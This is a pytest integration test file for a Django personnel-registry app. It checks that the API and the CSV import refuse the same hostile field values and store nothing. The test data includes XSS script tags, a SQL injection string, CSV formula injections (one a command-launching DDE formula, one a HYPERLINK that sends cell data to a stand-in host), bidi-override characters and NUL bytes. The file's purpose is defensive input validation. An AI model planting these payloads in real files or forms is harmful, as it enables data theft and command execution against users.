"""The API refuses what the import refuses, with the same message, and stores nothing."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest

from canbo.audit.models import AuditEntry
from canbo.core.errors import ImportRejected
from canbo.core.importing import PEOPLE_COLUMNS, UNIT_COLUMNS
from canbo.core.records import LeaveData, RelativeData
from canbo.core.types import LeaveKind, RelationKind, Role
from canbo.core.validation import InvalidField
from canbo.registry import models as m
from canbo.registry.bulk import DjangoBulkImportUnitOfWork
from canbo.registry.io_files import open_source
from canbo.registry.uow import DjangoRegistryUnitOfWork
from canbo.services.registry import imports
from canbo.services.registry import records as record_svc
from tests import factories as f
from tests.integration.test_api import client_for, person_payload
from tests.integration.test_import_export import person_cells, write_csv

pytestmark = pytest.mark.django_db(transaction=True)

PEOPLE_HEADER = [c.name for c in PEOPLE_COLUMNS]
UNITS_HEADER = [c.name for c in UNIT_COLUMNS]

# (field, hostile value, API value when the API field has another shape)
HOSTILE_PEOPLE = {
    "script in a name": ("full_name", "<script>alert(1)</script>"),
    "formula in a name": ("full_name", '=HYPERLINK("http://evil.example/?"&A1,"An")'),
    "formula in a home town": ("hometown", "=cmd|' /C calc'!A0"),
    "sql in a code": ("code", "'; drop table x;--"),
    "right-to-left override": ("hometown", "Hà Giang \u202egnaiG"),
    "nul byte": ("full_name", "Nguyễn\x00 Văn An"),
    "birth date in year one": ("birth_date", "0001-01-01"),
}


@pytest.fixture
def tree() -> f.SmallTree:
    return f.small_tree()


def state() -> tuple[int, int, int]:
    return m.Person.objects.count(), m.OrgUnit.objects.count(), AuditEntry.objects.count()


def import_problems(path: Path, kind: str = "people") -> list[Any]:
    use_case = imports.import_people if kind == "people" else imports.import_units
    with pytest.raises(ImportRejected) as err, open_source(path) as source:
        use_case(
            DjangoBulkImportUnitOfWork(), f.SYSTEM, source, today=f.TODAY,
            file=imports.FileInfo(path.name, "0" * 64),
        )  # fmt: skip
    return err.value.errors


@pytest.mark.parametrize("case", HOSTILE_PEOPLE.values(), ids=HOSTILE_PEOPLE.keys())
def test_the_api_refuses_a_person_the_import_refuses_with_the_same_message(
    tree: f.SmallTree, tmp_path: Path, case: tuple[str, str]
) -> None:
    field, value = case
    cell_code = m.OrgUnit.objects.get(pk=tree.cell_a).code
    cell_value = "01/01/0001" if field == "birth_date" else value
    cells = person_cells("HG-9", cell_code)
    cells[PEOPLE_HEADER.index(field)] = cell_value
    path = write_csv(tmp_path / "p.csv", PEOPLE_HEADER, [cells])
    (row_error,) = import_problems(path)
    before = state()
    client = client_for(Role.ORG_STAFF, tree.ha_giang)
    response = client.post(
        "/api/people/", person_payload(cell=tree.cell_a, **{field: value}), format="json"
    )
    body = response.json()
    assert response.status_code == 400, body
    assert state() == before
    assert (body["code"], body["fields"]["field"]) == (row_error.code, field)
    assert body["message_vi"].endswith(row_error.message_vi)
    assert body["message_en"].endswith(row_error.message_en)


def test_a_correction_through_the_api_passes_the_same_rules(tree: f.SmallTree) -> None:
    pid = f.person("Nguyễn Văn An", tree.cell_a)
    client = client_for(Role.ORG_STAFF, tree.ha_giang)
    before = state()
    response = client.patch(f"/api/people/{pid}/", {"hometown": "=1+1"}, format="json")
    assert response.status_code == 400
    assert response.json()["code"] == "formula_like"
    assert state() == before
    assert m.Person.objects.get(pk=pid).hometown != "=1+1"


def test_the_api_refuses_a_unit_the_import_refuses(tree: f.SmallTree, tmp_path: Path) -> None:
    client = client_for(Role.ORG_STAFF, tree.commune)
    before = state()
    for field, value in [
        ("code", "'; drop table x;--"),
        ("name", "<img src=x onerror=alert(1)>"),
        ("legal_basis", "QĐ \u202e12"),
        ("valid_from", "0001-01-01"),
    ]:
        body = {"code": "CB-X", "name": "Chi bộ X", "kind": "cell", "parent": tree.commune,
                "valid_from": "2022-01-01", field: value}  # fmt: skip
        response = client.post("/api/units/", body, format="json")
        assert response.status_code == 400, (field, response.json())
        assert response.json()["fields"]["field"] == field
    assert state() == before


def test_record_items_refuse_control_and_bidi_characters(tree: f.SmallTree) -> None:
    pid = f.person("Nguyễn Văn An", tree.cell_a)
    today = dt.date(2026, 1, 15)
    for data in [
        LeaveData(LeaveKind.SICK, dt.date(2025, 1, 1), dt.date(2025, 2, 1), note="ốm\x00"),
        RelativeData(RelationKind.SPOUSE, dt.date(2025, 1, 1), full_name="<b>An</b>"),
        RelativeData(
            RelationKind.SPOUSE, dt.date(2025, 1, 1), full_name="Lê Thị Hoa", workplace="\u202e"
        ),
    ]:
        with pytest.raises(InvalidField):
            record_svc.add_record(DjangoRegistryUnitOfWork(), f.SYSTEM, pid, data, today)


def test_a_nul_byte_in_a_csv_cell_far_past_the_first_block_names_its_row_and_column(
    tree: f.SmallTree, tmp_path: Path
) -> None:
    cell_code = m.OrgUnit.objects.get(pk=tree.cell_a).code
    rows = [person_cells(f"HG-{i:05d}", cell_code) for i in range(2, 3001)]
    rows[2500][5] = "Hà\x00Giang"  # row 2502 of the file, column hometown
    problems = import_problems(write_csv(tmp_path / "p.csv", PEOPLE_HEADER, rows))
    assert [(e.row, e.column, e.code) for e in problems] == [
        (2502, "hometown", "control_character")
    ]
    assert "U+0000" in problems[0].message_vi


def test_bulk_scores_refuse_a_nul_or_a_formula_in_the_evidence_naming_the_row() -> None:
    from canbo.classification.models import StepRecord
    from canbo.classification.store import DjangoClassificationUnitOfWork as UnitOfWork
    from canbo.services.classification import bulk
    from tests.integration import classification_fixtures as fx

    c = fx.commune()
    cycle_id = fx.open_cycle(c)
    sec = fx.actor("bt", Role.CELL_SECRETARY, c.cell_a)
    header, rows = bulk.template(UnitOfWork(), sec, cycle_id, c.cell_a)
    filled = [dict(zip(header, r, strict=True)) for r in rows]
    for row in filled:
        row.update(fx.FAIR)
        if row["kind"] == "leader":
            row["led_units_tasks_pct"] = "100"
    filled[0]["evidence"] = "Báo cáo\x00"
    filled[2]["evidence"] = '=HYPERLINK("http://x")'
    with pytest.raises(ImportRejected) as err:
        bulk.import_scores(UnitOfWork(), sec, cycle_id, c.cell_a, header, filled, fx.NOW)
    assert [(e.row, e.column, e.code) for e in err.value.errors] == [
        (2, "evidence", "control_character"),
        (4, "evidence", "formula_like"),
    ]
    assert not StepRecord.objects.exists()
